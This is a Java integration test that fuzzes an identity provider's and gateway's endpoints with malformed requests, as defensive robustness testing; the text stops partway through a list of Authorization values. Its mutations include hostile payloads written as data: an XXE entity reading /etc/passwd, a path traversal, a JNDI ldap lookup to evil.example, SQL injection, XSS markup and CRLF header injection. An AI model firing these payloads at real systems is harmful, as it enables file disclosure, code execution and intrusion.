package dev.echoid.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.echoid.testkit.Browser;
import java.io.IOException;
import java.net.HttpCookie;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.Comparator;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BiConsumer;
import java.util.function.Function;
import java.util.logging.Level;
import java.util.logging.Logger;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * A malformed-input fuzzer over every endpoint and page of both WARs: a table of endpoints ({@link #endpoints()})
 * with their parameters, times a catalogue of mutations ({@link #mutations()}: every method, duplicated, empty and
 * oversized values, NUL/CR/LF/C0/DEL, bytes that are not UTF-8, overlong encodings, broken %-escapes, markup, bogus
 * content types, charsets, Authorization headers, cookies and bodies), each applied once to every endpoint, the
 * contexts it serves taking turns (no session; a real pending sign-in with its request id and cookies; signed in at
 * both WARs), then stacked mutations drawn from a fixed seed. The list of requests is the same on every run.
 *
 * <p>Every answer must be below 500, carry no stack trace or exception name, name no server or library version,
 * reflect no markup of the mutation, and redirect only to the system's own origins (where the registered redirect
 * URIs are). A failure lists the first offending requests; a summary line gives the count and the statuses.
 *
 * <p>Requests that Tomcat's connector refuses before any web application runs (a request line or header over
 * {@code maxHttpHeaderSize}, a raw control character or a character Tomcat does not allow in the request target or a
 * header, an encoded NUL or slash in the path) form their own group, {@link Group#CONNECTOR_LEVEL}: their answers
 * come from Tomcat's {@code ErrorReportValve}, which the WARs cannot change. For them only what the valve's
 * configuration guarantees is asserted: no 5xx, no stack trace, no version.
 *
 * <p>Adding an endpoint is one entry in {@link #endpoints()}; adding a mutation one entry in {@link #mutations()}.
 * The system is its own (admin token set, so the admin endpoints parse their input), because the fuzzer's thousands
 * of failed sign-ins lock its address out of signing in.
 */
class FuzzIT {

    static final long SEED = 0x5EED_2026_1201L;
    /** The stacked (random, seeded) mutations drawn after the systematic sweep. */
    static final int STACKED_REQUESTS = 2_000;
    static final int MIN_APPLICATION_REQUESTS = 10_000;
    private static final int THREADS = 4;
    private static final int REPORTED_FAILURES = 12;
    private static final int TOMCAT_MAX_HEADER_SIZE = 8 * 1024;
    private static final long SLOW_MILLIS = 1_000;
    private static final String ADMIN_TOKEN = "fuzz-it-admin-token-0123456789abcdef-0123456789";
    private static final String MARKUP = "\"'><script>fz()</script><img src=x onerror=fz()>";
    private static final String VERIFIER = "fuzz-it-code-verifier-0123456789-abcdefghijklmnop";
    private static final List<String> METHODS = List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE",
            "HEAD");
    private static final Set<String> BODY_METHODS = Set.of("POST", "PUT", "PATCH");
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final ObjectMapper JSON = new ObjectMapper();

    /** A Java stack frame, an exception's class name, or the words a trace is printed with. */
    private static final Pattern STACK_TRACE = Pattern.compile(
            "Exception|Caused by|\\bat [a-zA-Z_$][\\w$]*(\\.[\\w$<>]+)+\\(|java\\.lang\\.|org\\.apache\\.|"
                    + "org\\.glassfish\\.|org\\.jboss\\.|com\\.sun\\.|dev\\.echoid\\.|jakarta\\.servlet\\.|"
                    + "jakarta\\.ws\\.rs\\.");
    /** A server or library name that the error pages of a default setup give away, with or without a version. */
    private static final Pattern PRODUCT = Pattern.compile(
            "(?i)apache tomcat|tomcat/\\d|\\bcoyote\\b|\\bjersey\\b|mojarra|\\bweld\\b|glassfish|postgresql|"
                    + "\\bjetty\\b|undertow|wildfly");

    enum Origin { PROVIDER, GATEWAY }

    /** What the requests of an endpoint run as. */
    enum Context { ANONYMOUS, PENDING_SIGN_IN, SIGNED_IN }

    /** Where an answer comes from: one of the WARs, or Tomcat's connector before either runs (see the class). */
    enum Group { APPLICATION, CONNECTOR_LEVEL }

    private static final Set<Context> ALL = EnumSet.allOf(Context.class);
    private static final Set<Context> NO_SESSION = EnumSet.of(Context.ANONYMOUS);

    /**
     * The state a context carries: its cookies and the values its forms need.
     *
     * @param requestId the provider's pending sign-in request ({@code ?request=} of the login page)
     * @param gatewayState the {@code state} of the gateway's own pending sign-in
     * @param formFields the hidden fields every form of this browser carries besides its own (a form token), as the
     *         context's pages render them
     */
    record Session(Context context, List<HttpCookie> cookies, String requestId, String gatewayState,
            String enrolSecret, String accessToken, String idToken, Map<String, String> formFields) {

        /** A form post of this context: the page's shared hidden fields, then {@code fields}. */
        Map<String, String> form(String... fields) {
            Map<String, String> form = new LinkedHashMap<>(formFields);
            form.putAll(map(fields));
            return form;
        }
    }

    /**
     * One row of the table.
     *
     * @param methods the methods it serves (the base request uses one; the mutations try every other)
     * @param params its parameters with valid values in each context
     * @param extra parameters it may read but that the base request leaves out (a mutation may add them)
     * @param queryOnly its parameters go in the query string whatever the method
     * @param authorization the Authorization header of the base request, or null
     * @param stride the sweep tries every mutation, or only every n-th where each request costs a slow hash
     */
    record Endpoint(String name, Origin origin, String path, List<String> methods,
            Function<Session, Map<String, String>> params, List<String> extra, Set<Context> contexts,
            boolean queryOnly, Function<Session, String> authorization, int stride) {

        Endpoint extra(String... names) {
            return new Endpoint(name, origin, path, methods, params, List.of(names), contexts, queryOnly,
                    authorization, stride);
        }

        Endpoint in(Set<Context> only) {
            return new Endpoint(name, origin, path, methods, params, extra, only, queryOnly, authorization, stride);
        }

        Endpoint query() {
            return new Endpoint(name, origin, path, methods, params, extra, contexts, true, authorization, stride);
        }

        Endpoint auth(Function<Session, String> header) {
            return new Endpoint(name, origin, path, methods, params, extra, contexts, queryOnly, header, stride);
        }

        Endpoint sparse(int every) {
            return new Endpoint(name, origin, path, methods, params, extra, contexts, queryOnly, authorization,
                    every);
        }
    }

    /** A request being built: the base request of an endpoint, then changed by mutations. */
    static final class Draft {
        final Endpoint endpoint;
        final Session session;
        final List<String> mutations = new ArrayList<>();
        String method;
        String path;
        /** Names and values, both already %-encoded (so a mutation can put a broken escape there). */
        final List<String[]> params = new ArrayList<>();
        /** Always in the query string, whatever the method. */
        final List<String[]> queryParams = new ArrayList<>();
        final List<String[]> headers = new ArrayList<>();
        String contentType;
        byte[] rawBody;
        boolean paramsInQueryAndBody;
        Group group = Group.APPLICATION;

        Draft(Endpoint endpoint, Session session, String method) {
            this.endpoint = endpoint;
            this.session = session;
            this.method = method;
            this.path = endpoint.path();
            endpoint.params().apply(session).forEach((name, value) -> (endpoint.queryOnly() ? queryParams : params)
                    .add(new String[] {enc(name), enc(value)}));
            String authorization = endpoint.authorization() == null ? null : endpoint.authorization().apply(session);
            if (authorization != null) {
                headers.add(new String[] {"Authorization", authorization});
            }
        }

        boolean body() {
            return BODY_METHODS.contains(method);
        }

        /** The name of one parameter (the base request's, or one it may read), chosen by {@code random}. */
        String anyParam(Random random) {
            List<String> names = new ArrayList<>();
            params.forEach(p -> names.add(p[0]));
            queryParams.forEach(p -> names.add(p[0]));
            endpoint.extra().forEach(name -> names.add(enc(name)));
            return names.isEmpty() ? "fz" : names.get(random.nextInt(names.size()));
        }

        /** Sets the value of {@code name} (added when absent) to {@code update} of its current encoded value. */
        void value(String name, Function<String, String> update) {
            for (List<String[]> list : List.of(params, queryParams)) {
                for (String[] param : list) {
                    if (param[0].equals(name)) {
                        param[1] = update.apply(param[1] == null ? "" : param[1]);
                        return;
                    }
                }
            }
            params.add(new String[] {name, update.apply("")});
        }

        void header(String name, String value) {
            headers.removeIf(h -> h[0].equalsIgnoreCase(name));
            headers.add(new String[] {name, value});
        }
    }

    /** A request as sent, with what produced it. */
    record Sent(int index, Group group, Origin origin, Context context, String endpoint, String mutations,
            String method, String target, String head, byte[] body) {

        String describe() {
            return "#" + index + " [" + context + "] " + endpoint + " <- " + mutations + "\n      " + method + " "
                    + printable(target, 300) + (body.length == 0 ? "" : "\n      body ("
                    + body.length + " bytes): " + printable(new String(body, StandardCharsets.ISO_8859_1), 200));
        }
    }

    /** A mutation: a label for the report and what it does to a draft. */
    record Mutation(String label, BiConsumer<Draft, Random> apply) {
    }

    private static DevServer system;
    private static String issuer;
    private static String gateway;
    private static String identityContextPath;
    private static Set<String> ownOrigins;
    private static Map<Context, Session> sessions;
    /** Held so the level set for the run stays set (java.util.logging keeps loggers weakly). */
    private static final Logger QUIET = Logger.getLogger("dev.echoid");
    private static Level levelBefore;

    @BeforeAll
    static void start() throws Exception {
        system = DevServer.start(RunningSystem.freshOptions(RunningSystem.temporaryDirectory(),
                Map.of("IDENTITY_ADMIN_TOKEN", ADMIN_TOKEN)));
        issuer = system.options().issuer();
        gateway = system.options().gateway();
        identityContextPath = URI.create(issuer).getPath();
        ownOrigins = Set.of(origin(URI.create(issuer)), origin(URI.create(gateway)));
        sessions = new LinkedHashMap<>();
        sessions.put(Context.ANONYMOUS, new Session(Context.ANONYMOUS, List.of(), "fz-unknown-request", "fz-state",
                "", "fz-not-an-access-token", "fz.not.an-id-token", Map.of()));
        sessions.put(Context.PENDING_SIGN_IN, pendingSignIn());
        sessions.put(Context.SIGNED_IN, signedIn());
        // thousands of refused requests: keep the log to errors (a server error is logged at that level)
        levelBefore = QUIET.getLevel();
        QUIET.setLevel(Level.SEVERE);
    }

    @AfterAll
    static void stop() {
        QUIET.setLevel(levelBefore);
        if (system != null) {
            system.close();
        }
    }

    // --- the table ---------------------------------------------------------------------------------------------

    static List<Endpoint> endpoints() {
        String callback = gateway + "/callback";
        List<Endpoint> table = new ArrayList<>();
        // --- provider: protocol endpoints ---
        table.add(provider("discovery", "/.well-known/openid-configuration", "GET"));
        table.add(provider("jwks", "/jwks", "GET"));
        table.add(provider("authorize", "/authorize", s -> map("response_type", "code", "client_id",
                DevServer.CLIENT_ID, "redirect_uri", callback, "scope", "openid profile", "state", "fz-state",
                "nonce", "fz-nonce", "code_challenge", challenge(VERIFIER), "code_challenge_method", "S256"),
                "GET", "POST").extra("prompt", "max_age", "login_hint", "ui_locales", "id_token_hint",
                "response_mode", "request", "request_uri", "claims", "acr_values", "display"));
        table.add(provider("token", "/token", s -> map("grant_type", "authorization_code", "code", "fz-code",
                "redirect_uri", callback, "code_verifier", VERIFIER), "POST").in(NO_SESSION)
                .extra("client_id", "client_secret", "refresh_token", "scope", "client_assertion"));
        // client authentication runs a slow hash: these few rows carry real client credentials
        table.add(provider("token, client_secret_basic", "/token", s -> map("grant_type", "refresh_token",
                "refresh_token", "fz-refresh-token", "scope", "openid"), "POST").in(NO_SESSION)
                .auth(s -> clientAuth()).extra("redirect_uri", "code", "client_id").sparse(3));
        table.add(provider("userinfo", "/userinfo", s -> map(), "GET", "POST")
                .auth(s -> "Bearer " + s.accessToken()).extra("access_token", "schema"));
        table.add(provider("revoke", "/revoke", s -> map("token", "fz-token", "token_type_hint", "refresh_token"),
                "POST").in(NO_SESSION).extra("client_id", "client_secret"));
        table.add(provider("introspect", "/introspect", s -> map("token", "fz-token", "token_type_hint",
                "access_token"), "POST").in(NO_SESSION).extra("client_id", "client_secret"));
        table.add(provider("introspect, client_secret_basic", "/introspect", s -> map("token",
                sessions.get(Context.SIGNED_IN).accessToken()), "POST").in(NO_SESSION).auth(s -> clientAuth())
                .extra("token_type_hint").sparse(3));
        table.add(provider("logout", "/logout", s -> map("client_id", DevServer.CLIENT_ID,
                "post_logout_redirect_uri", gateway + "/signed-out", "state", "fz-state"), "GET", "POST")
                .extra("id_token_hint", "confirmation", "ui_locales", "logout_hint"));
        // the real ID token as a hint signs its user out without asking: only where no one is signed in
        table.add(provider("logout, id_token_hint", "/logout", s -> map("id_token_hint",
                sessions.get(Context.SIGNED_IN).idToken(), "post_logout_redirect_uri", gateway + "/signed-out"),
                "GET", "POST").in(NO_SESSION).extra("client_id", "state"));
        table.add(provider("health live", "/health/live", "GET"));
        table.add(provider("health ready", "/health/ready", "GET"));
        table.add(provider("metrics", "/metrics", "GET"));
        table.add(provider("admin keys", "/admin/keys", s -> map(), "GET").in(NO_SESSION).auth(s -> admin()));
        table.add(provider("admin key rotation", "/admin/keys/rotate", s -> map("alg", "ES256"), "POST")
                .in(NO_SESSION).auth(s -> admin()).query());
        table.add(provider("admin audit", "/admin/audit", s -> map("user", DevServer.DEMO_USER, "from",
                "2026-01-01T00:00:00Z", "to", "2099-01-01T00:00:00Z"), "GET").in(NO_SESSION).auth(s -> admin())
                .extra("login", "client"));
        table.add(provider("admin audit verify", "/admin/audit/verify", s -> map(), "GET").in(NO_SESSION)
                .auth(s -> admin()));
        table.add(provider("admin unlock", "/admin/users/fz-nobody/unlock", s -> map(), "POST").in(NO_SESSION)
                .auth(s -> admin()));
        table.add(provider("admin second-factor reset", "/admin/users/fz-nobody/totp", s -> map(), "DELETE")
                .in(NO_SESSION).auth(s -> admin()));
        // --- provider: the Faces pages, their form posts (field names as the pages render them), static files ---
        table.add(provider("login page", "/login.xhtml", s -> map("request", s.requestId()), "GET"));
        table.add(provider("login form", "/login.xhtml", s -> s.form("login", "login", "login:request", s.requestId(),
                "login:username", DevServer.DEMO_USER, "login:password", "fuzz-wrong-password", "login:submit",
                "Sign in", "jakarta.faces.ViewState", "stateless"), "POST").extra("request"));
        table.add(provider("second-step page", "/mfa.xhtml", s -> map("request", s.requestId()), "GET"));
        table.add(provider("second-step form", "/mfa.xhtml", s -> s.form("mfa", "mfa", "mfa:request", s.requestId(),
                "mfa:code", "000000", "mfa:submit", "Verify", "jakarta.faces.ViewState", "stateless"), "POST"));
        table.add(provider("enrolment page", "/enrol.xhtml", s -> map("request", s.requestId()), "GET"));
        table.add(provider("enrolment form", "/enrol.xhtml", s -> s.form("enrol", "enrol", "enrol:request",
                s.requestId(), "enrol:secret", s.enrolSecret(), "enrol:code", "000000", "enrol:submit", "Turn on",
                "jakarta.faces.ViewState", "stateless"), "POST"));
        table.add(provider("account page", "/account.xhtml", s -> map(), "GET"));
        // without its button: "sign out everywhere" would end the signed-in context the other rows use
        table.add(provider("account form", "/account.xhtml", s -> s.form("sessions", "sessions",
                "jakarta.faces.ViewState", "stateless"), "POST"));
        table.add(provider("context root", "/", "GET"));
        table.add(provider("index.html", "/index.html", "GET"));
        table.add(provider("stylesheet", "/resources/css/login.css", "GET"));
        table.add(provider("icon", "/resources/img/echoid.svg", "GET"));
        table.add(provider("Faces resource", "/jakarta.faces.resource/login.css.xhtml", s -> map("ln", "css"),
                "GET"));
        table.add(provider("error page", "/error/500.html", "GET"));
        table.add(provider("unknown path", "/fz-nothing-here", "GET"));
        table.add(provider("unknown view", "/fz-nothing-here.xhtml", "GET"));
        // --- gateway ---
        table.add(gateway("home", "/", s -> map(), "GET"));
        table.add(gateway("echo API", "/api/echo", s -> map("x", "1"), "GET", "POST", "PUT", "DELETE", "PATCH"));
        table.add(gateway("echo API, sub-path", "/api/echo/fz/path", s -> map("x", "1"), "GET"));
        table.add(gateway("login", "/login", s -> map("return_to", "/"), "GET"));
        table.add(gateway("callback", "/callback", s -> map("code", "fz-code", "state", s.gatewayState(), "iss",
                issuer), "GET").extra("error", "error_description", "error_uri", "session_state"));
        table.add(gateway("callback, error", "/callback", s -> map("error", "access_denied", "error_description",
                "fz description", "state", s.gatewayState(), "iss", issuer), "GET").extra("error_uri", "code"));
        // signs the gateway session out: never in a context another row relies on
        table.add(gateway("logout", "/logout", s -> map(), "GET", "POST").in(NO_SESSION));
        table.add(gateway("signed out", "/signed-out", s -> map("state", "fz-state"), "GET"));
        table.add(gateway("back-channel logout", "/backchannel-logout", s -> map("logout_token",
                "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"), "POST").in(NO_SESSION));
        table.add(gateway("health live", "/health/live", s -> map(), "GET"));
        table.add(gateway("health ready", "/health/ready", s -> map(), "GET"));
        table.add(gateway("error servlet", "/error", s -> map(), "GET"));
        table.add(gateway("favicon", "/favicon.ico", s -> map(), "GET"));
        table.add(gateway("unknown path", "/fz-nothing-here", s -> map("q", "1"), "GET"));
        return table;
    }

    // --- the mutations -----------------------------------------------------------------------------------------

    static List<Mutation> mutations() {
        List<Mutation> all = new ArrayList<>();
        // the base request itself, then every method on it
        all.add(new Mutation("none", (d, r) -> { }));
        for (String method : METHODS) {
            all.add(new Mutation("method " + method, (d, r) -> d.method = method));
        }
        all.add(new Mutation("params in query and body", (d, r) -> {
            d.method = "POST";
            d.paramsInQueryAndBody = true;
        }));
        // duplicated, missing, empty
        all.add(new Mutation("duplicated, same value", (d, r) -> duplicate(d, r, v -> v)));
        all.add(new Mutation("duplicated, other value", (d, r) -> duplicate(d, r, v -> v + "2")));
        all.add(new Mutation("every parameter duplicated", (d, r) -> {
            List<String[]> copy = new ArrayList<>(d.params);
            copy.forEach(p -> d.params.add(new String[] {p[0], p[1]}));
        }));
        all.add(new Mutation("missing parameter", (d, r) -> {
            if (!d.params.isEmpty()) {
                d.params.remove(r.nextInt(d.params.size()));
            }
        }));
        all.add(new Mutation("all parameters missing", (d, r) -> d.params.clear()));
        // values: each replaces or extends one parameter's value (encoded as sent)
        Map<String, Function<String, String>> values = new LinkedHashMap<>();
        values.put("empty", v -> "");
        values.put("8 KB", v -> "a".repeat(8 * 1024));
        values.put("100 KB", v -> "b".repeat(100 * 1024));
        values.put("NUL alone", v -> "%00");
        for (String control : List.of("%00", "%01", "%07", "%08", "%09", "%0A", "%0B", "%0C", "%0D", "%0D%0A",
                "%1B", "%1F", "%7F")) {
            values.put("control " + control + " inside", v -> insert(v, control));
        }
        values.put("CRLF header injection", v -> v + "%0D%0AX-Fz-Injected:%201%0D%0A%0D%0A%3Cfz%3E");
        values.put("C1 NEL", v -> v + "%C2%85");
        values.put("C1 U+009F", v -> v + "%C2%9F");
        values.put("line separator", v -> v + "%E2%80%A8");
        values.put("right-to-left override", v -> "%E2%80%AE" + v);
        values.put("byte order mark", v -> "%EF%BB%BF" + v);
        values.put("noncharacter U+FFFF", v -> v + "%EF%BF%BF");
        values.put("emoji", v -> v + "%F0%9F%98%80");
        values.put("not UTF-8 %FF", v -> v + "%FF");
        values.put("not UTF-8 %FE%FF", v -> "%FE%FF" + v);
        values.put("lone continuation byte", v -> v + "%80");
        values.put("truncated sequence", v -> v + "%E2%82");
        values.put("overlong NUL", v -> v + "%C0%80");
        values.put("overlong slash", v -> "%C0%AF" + v);
        values.put("overlong 3-byte slash", v -> "%E0%80%AF" + v);
        values.put("UTF-16 surrogate", v -> v + "%ED%A0%80");
        values.put("above U+10FFFF", v -> v + "%F4%90%80%80");
        values.put("5-byte sequence", v -> v + "%F8%88%80%80%80");
        values.put("broken escape %", v -> v + "%");
        values.put("broken escape %G1", v -> "%G1" + v);
        values.put("broken escape %2", v -> v + "%2");
        values.put("broken escape %u0041", v -> "%u0041" + v);
        values.put("double escape", v -> "%2500" + v);
        values.put("markup", v -> enc(MARKUP));
        values.put("markup appended", v -> v + enc(MARKUP));
        values.put("javascript: URL", v -> enc("javascript:fz()"));
        values.put("off-site URL", v -> enc("https://evil.example/fz"));
        values.put("scheme-relative URL", v -> enc("//evil.example/fz"));
        values.put("path traversal", v -> enc("../../../../etc/passwd"));
        values.put("huge number", v -> "99999999999999999999999999");
        values.put("negative number", v -> "-1");
        values.put("NaN", v -> "NaN");
        values.put("plus and spaces", v -> "+%20+" + v + "+");
        values.put("JSON", v -> enc("{\"$ne\":null}"));
        values.put("SQL", v -> enc("' OR '1'='1' --"));
        values.put("format string", v -> enc("%s%n%x{0}${jndi:ldap://evil.example/x}#{1+1}"));
        values.forEach((label, update) -> all.add(new Mutation("value " + label,
                (d, r) -> d.value(d.anyParam(r), update))));
        // parameter names
        all.add(new Mutation("name with NUL", (d, r) -> rename(d, r, n -> n + "%00")));
        all.add(new Mutation("name with CR LF", (d, r) -> rename(d, r, n -> n + "%0D%0A")));
        all.add(new Mutation("name not UTF-8", (d, r) -> rename(d, r, n -> n + "%FF")));
        all.add(new Mutation("name markup", (d, r) -> d.params.add(new String[] {enc(MARKUP), "1"})));
        all.add(new Mutation("name broken escape", (d, r) -> d.params.add(new String[] {"%", "1"})));
        all.add(new Mutation("name empty", (d, r) -> d.params.add(new String[] {"", "1"})));
        all.add(new Mutation("name without value", (d, r) -> d.params.add(new String[] {"fz", null})));
        all.add(new Mutation("name 4 KB", (d, r) -> d.params.add(new String[] {"n".repeat(4096), "1"})));
        all.add(new Mutation("name Faces view state", (d, r) -> d.params.add(new String[] {
            "jakarta.faces.ViewState", r.nextBoolean() ? "stateless" : "-1:-1"})));
        all.add(new Mutation("5,000 parameters", (d, r) -> {
            for (int i = 0; i < 5_000; i++) {
                d.params.add(new String[] {"p" + i, "v"});
            }
        }));
        // content types and bodies
        for (String type : List.of("text/plain", "application/json", "application/xml", "multipart/form-data",
                "multipart/form-data; boundary=fz", FORM + "; charset=nonsense", FORM + "; charset=UTF-16",
                FORM + "; charset=ISO-8859-1", FORM + "; charset=\"utf-8", FORM + ";;;", ";;;", "", "*/*",
                "text/html; charset=utf-8", FORM + ", application/json", FORM + "; charset=", "a/b/c",
                "application/x-www-form-urlencoded; q=0.5; charset=utf-8; charset=utf-16", "x".repeat(2048))) {
            all.add(new Mutation("Content-Type " + abbreviate(type), (d, r) -> {
                if (!d.body()) {
                    d.method = "POST";
                }
                d.contentType = type;
            }));
        }
        all.add(new Mutation("JSON body", (d, r) -> body(d, "application/json", "{\"grant_type\":\"x\",\"a\":[1,{}]}")));
        all.add(new Mutation("XML body", (d, r) -> body(d, "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
        all.add(new Mutation("form body with raw bytes", (d, r) -> {
            d.method = d.body() ? d.method : "POST";
            d.contentType = FORM;
            byte[] bytes = new byte[256];
            for (int i = 0; i < bytes.length; i++) {
                bytes[i] = (byte) i;
            }
            d.rawBody = bytes;
        }));
        all.add(new Mutation("random binary body", (d, r) -> {
            d.method = d.body() ? d.method : "POST";
            byte[] bytes = new byte[64 + r.nextInt(1024)];
            r.nextBytes(bytes);
            d.rawBody = bytes;
        }));
        all.add(new Mutation("form body on a GET", (d, r) -> {
            d.method = "GET";
            d.contentType = FORM;
            d.rawBody = d.params.stream().map(p -> p[0] + "=" + p[1]).collect(Collectors.joining("&"))
                    .getBytes(StandardCharsets.ISO_8859_1);
        }));
        all.add(new Mutation("gzip Content-Encoding on a plain body", (d, r) -> {
            d.method = d.body() ? d.method : "POST";
            d.header("Content-Encoding", "gzip");
        }));
        // Authorization
        for (String authorization : authorizations()) {
            all.add(new Mutation("Authorization " + abbreviate(authorization), (d, r) -> d.header("Authorization",
                    authorization)));
        }
        all.add(new Mutation("Authorization twice", (d, r) -> {
            d.headers.add(new String[] {"Authorization", "Bearer fz-one"});
            d.headers.add(new String[] {"Authorization", "Basic " + b64("echo:fz-two")});
        }));
        // other headers
        Map<String, String[]> headers = new LinkedHashMap<>();
        headers.put("Accept HTML", new String[] {"Accept", "text/html,application/xhtml+xml,*/*;q=0.8"});
        headers.put("Accept JSON", new String[] {"Accept", "application/json"});
        headers.put("Accept nonsense", new String[] {"Accept", "text/html;q=abc, ;;, */*;q=2"});
        headers.put("Accept-Charset nonsense", new String[] {"Accept-Charset", "nonsense, utf-7"});
        headers.put("Accept-Language nonsense", new String[] {"Accept-Language", "\"><x-fz>, zz-ZZZZ;q=0"});
        headers.put("cookie SSO junk", new String[] {"Cookie", "IDENTITY_SSO=fz-junk; IDENTITY_LOGIN=fz-junk"});
        headers.put("cookie escaped NUL", new String[] {"Cookie", "IDENTITY_SSO=%00; IDENTITY_LOGIN=%00%0A"});
        headers.put("cookie markup", new String[] {"Cookie", "IDENTITY_LOGIN=\"" + MARKUP.replace("\"", "") + "\""});
        headers.put("cookie 4 KB", new String[] {"Cookie", "IDENTITY_SSO=" + "c".repeat(4096)});
        headers.put("cookie duplicated names", new String[] {"Cookie",
            "IDENTITY_SSO=1; IDENTITY_SSO=2; ECHOSESSION=1; ECHOSESSION=2; IDENTITYSESSION=x"});
        headers.put("cookie gateway session junk", new String[] {"Cookie", "ECHOSESSION=fz-junk"});
        headers.put("cookie not UTF-8", new String[] {"Cookie", "IDENTITY_LOGIN=\u00ff\u00fe"});
        headers.put("Origin another site", new String[] {"Origin", "https://evil.example"});
        headers.put("Origin null", new String[] {"Origin", "null"});
        headers.put("Sec-Fetch-Site cross-site", new String[] {"Sec-Fetch-Site", "cross-site"});
        headers.put("Referer javascript:", new String[] {"Referer", "javascript:fz()"});
        headers.put("X-Forwarded-For markup", new String[] {"X-Forwarded-For", MARKUP});
        headers.put("X-Forwarded-For list", new String[] {"X-Forwarded-For", "203.0.113.1, 999.1.1.1, ::ffff:zz"});
        headers.put("X-Forwarded-Proto junk", new String[] {"X-Forwarded-Proto", "javascript"});
        headers.put("X-Forwarded-Host another site", new String[] {"X-Forwarded-Host", "evil.example"});
        headers.put("Forwarded another site", new String[] {"Forwarded", "for=\"[::1]\";host=evil.example;proto=https"});
        headers.put("Host another site", new String[] {"Host", "evil.example"});
        headers.put("Range junk", new String[] {"Range", "bytes=fz-, -"});
        headers.put("If-Modified-Since junk", new String[] {"If-Modified-Since", "yesterday"});
        headers.put("If-None-Match *", new String[] {"If-None-Match", "*"});
        headers.put("header not UTF-8", new String[] {"X-Fz", "\u00ff\u00c0\u0080"});
        headers.put("header 4 KB", new String[] {"X-Fz", "h".repeat(4096)});
        headers.forEach((label, header) -> all.add(new Mutation("header " + label,
                (d, r) -> d.header(header[0], header[1]))));
        // the path
        Map<String, Function<String, String>> paths = new LinkedHashMap<>();
        paths.put("trailing slash", p -> p + "/");
        paths.put("extra segment", p -> p + "/fz");
        paths.put("path parameter", p -> p + ";fz=1");
        paths.put("jsessionid path parameter", p -> p + ";jsessionid=FZ0123");
        paths.put("upper case", p -> p.toUpperCase(Locale.ROOT));
        paths.put("encoded space", p -> p + "%20");
        // without '/': an encoded slash is refused by the connector (below)
        paths.put("encoded markup", p -> p + enc(MARKUP.replace("/", "")).replace("+", "%20"));
        paths.put("encoded control", p -> p + "%01");
        paths.put("dot segments", p -> "/fz/.." + p);
        paths.put("encoded dot segments", p -> "/fz/%2e%2e" + p);
        paths.put("double slash", p -> "/" + p);
        paths.put("empty query", p -> p + "?");
        paths.put("query of ampersands", p -> p + "?&&=&=&");
        paths.forEach((label, update) -> all.add(new Mutation("path " + label, (d, r) -> d.path = update.apply(d.path))));
        return all;
    }

    /** What Tomcat refuses itself, before the WARs see the request (see {@link Group#CONNECTOR_LEVEL}). */
    static List<Mutation> connectorLevelMutations() {
        List<Mutation> all = new ArrayList<>();
        all.add(new Mutation("query over 8 KB", (d, r) -> d.queryParams.add(new String[] {"fz", "q".repeat(9000)})));
        all.add(new Mutation("query of 100 KB", (d, r) -> d.queryParams.add(new String[] {"fz",
            "q".repeat(100 * 1024)})));
        all.add(new Mutation("header over 8 KB", (d, r) -> d.header("X-Fz", "h".repeat(9000))));
        all.add(new Mutation("Authorization over 8 KB", (d, r) -> d.header("Authorization", "Bearer "
                + "t".repeat(9000))));
        all.add(new Mutation("control character in a header", (d, r) -> d.header("X-Fz", "a\u0001b")));
        all.add(new Mutation("NUL in a header", (d, r) -> d.header("Authorization", "Basic \u0000")));
        all.add(new Mutation("header name with a space", (d, r) -> d.header("X Fz", "1")));
        all.add(new Mutation("raw markup in the query", (d, r) -> d.queryParams.add(new String[] {"fz",
            "<script>fz()</script>"})));
        all.add(new Mutation("raw quote and braces in the query", (d, r) -> d.queryParams.add(new String[] {"fz",
            "\"{}|\\^`"})));
        all.add(new Mutation("raw byte above 0x7F in the target", (d, r) -> d.path = d.path + "\u00ff"));
        all.add(new Mutation("raw control character in the target", (d, r) -> d.path = d.path + "\u0001"));
        all.add(new Mutation("encoded NUL in the path", (d, r) -> d.path = d.path + "%00"));
        all.add(new Mutation("encoded slash in the path", (d, r) -> d.path = d.path + "%2Ffz"));
        all.add(new Mutation("encoded backslash in the path", (d, r) -> d.path = d.path + "%5Cfz"));
        all.add(new Mutation("broken escape in the path", (d, r) -> d.path = d.path + "%"));
        all.add(new Mutation("dot segments above the root", (d, r) -> d.path = "/../../.." + d.path));
        all.add(new Mutation("Host with a port of junk", (d, r) -> d.header("Host", "localhost:fz")));
        all.add(new Mutation("Expect junk", (d, r) -> d.header("Expect", "fz-continue")));
        all.add(new Mutation("encoded byte that is not UTF-8 in the path", (d, r) -> d.path = d.path + "%FF"));
        all.add(new Mutation("no Host header", (d, r) -> d.header("Host", null)));
        all.add(new Mutation("empty Host header", (d, r) -> d.header("Host", "")));
        all.add(new Mutation("two Host headers", (d, r) -> d.headers.add(new String[] {"Host", "evil.example"})));
        all.add(new Mutation("Content-Length not a number", (d, r) -> d.header("Content-Length", "fz")));
        return all;
    }

    private static List<String> authorizations() {
        return List.of("Basic", "Basic ", "Basic !!!not-base64!!!", "Basic " + b64("no-colon"), "Basic " + b64(":"),
                "Basic " + b64(DevServer.CLIENT_ID + ":"), "Basic " + b64(":fz-secret"),
                "Basic " + b64("ec\u0000ho:fz-secret"), "Basic " + b64(DevServer.CLIENT_ID + ":fz\u0000secret"),
                "Basic " + b64("%00:%00"), "Basic " + b64("echo%0A%0D:fz"), "Basic " + b64("echo%01:fz"),
